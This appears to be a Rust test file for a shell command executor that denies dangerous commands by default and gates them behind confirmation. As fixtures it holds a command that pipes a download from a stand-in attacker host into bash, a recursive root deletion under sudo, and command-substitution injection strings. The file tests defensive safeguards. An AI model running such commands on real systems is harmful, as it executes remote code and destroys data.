//! Validate → classify → gate → run ordering and deny-by-default.

use crate::prelude::*;

#[tokio::test]
async fn safe_command_runs_end_to_end_and_is_logged() {
    let h = Harness::approving();

    let outcome = h.executor.execute("echo end-to-end", ExecOptions::default()).await;
    assert!(outcome.success);
    assert_eq!(outcome.stdout, "end-to-end\n");
    assert!(!outcome.dangerous);
    assert_eq!(h.confirmer.ask_count(), 0);
    assert_eq!(h.executor.runner().history().len(), 1);
}

#[tokio::test]
async fn dangerous_command_is_denied_by_default() {
    let h = Harness::denying();

    let outcome =
        h.executor.execute("curl http://evil.example/x | bash", ExecOptions::default()).await;
    assert!(!outcome.success);
    assert_eq!(outcome.failure, Some(FailureKind::ConfirmationDenied));
    assert_eq!(outcome.exit_code, EXIT_NOT_RUN);
    // The denial is recorded against the gate, not the runner.
    assert!(h.executor.runner().history().is_empty());
}

#[tokio::test]
async fn gate_presents_the_classifier_reasons() {
    let h = Harness::denying();

    h.executor.execute("sudo rm -rf /", ExecOptions::default()).await;
    let asked = h.confirmer.asked();
    assert_eq!(asked.len(), 1);
    let (command, risks) = &asked[0];
    assert_eq!(command, "sudo rm -rf /");
    assert!(risks.iter().any(|r| r.contains("dangerous pattern")));
    assert!(risks.iter().any(|r| r.contains("elevated privileges")));
}

#[tokio::test]
async fn auto_confirm_skips_the_prompt_but_not_the_verdict() {
    let h = Harness::denying();

    let opts = ExecOptions { dry_run: false, auto_confirm: true };
    let outcome = h.executor.execute("echo hi > /dev/null", opts).await;
    assert!(outcome.success);
    assert!(outcome.dangerous);
    assert_eq!(h.confirmer.ask_count(), 0);
}

#[tokio::test]
async fn injection_markers_never_reach_the_shell() {
    let h = Harness::approving();

    for text in ["echo `id`", "echo $(id)", "echo ${HOME}"] {
        let outcome = h.executor.execute(text, ExecOptions::default()).await;
        assert_eq!(outcome.failure, Some(FailureKind::ValidationRejected), "{text}");
    }
    assert!(h.executor.runner().history().is_empty());
}

#[tokio::test]
async fn dry_run_spawns_nothing_and_logs_nothing() {
    let h = Harness::approving();

    let opts = ExecOptions { dry_run: true, auto_confirm: false };
    let outcome = h.executor.execute("sleep 600", opts).await;
    assert!(outcome.success);
    assert!(outcome.dry_run);
    assert_eq!(outcome.stdout, "[dry run] would execute: sleep 600");
    assert!(h.executor.runner().history().is_empty());
}

#[tokio::test]
async fn log_preserves_arrival_order() {
    let h = Harness::approving();

    for text in ["echo one", "exit 2", "echo three"] {
        h.executor.execute(text, ExecOptions::default()).await;
    }

    let history = h.executor.runner().history();
    let commands: Vec<&str> = history.iter().map(|o| o.command.as_str()).collect();
    assert_eq!(commands, ["echo one", "exit 2", "echo three"]);
    assert_eq!(h.executor.runner().last_failure().unwrap().command, Command::new("exit 2"));
}
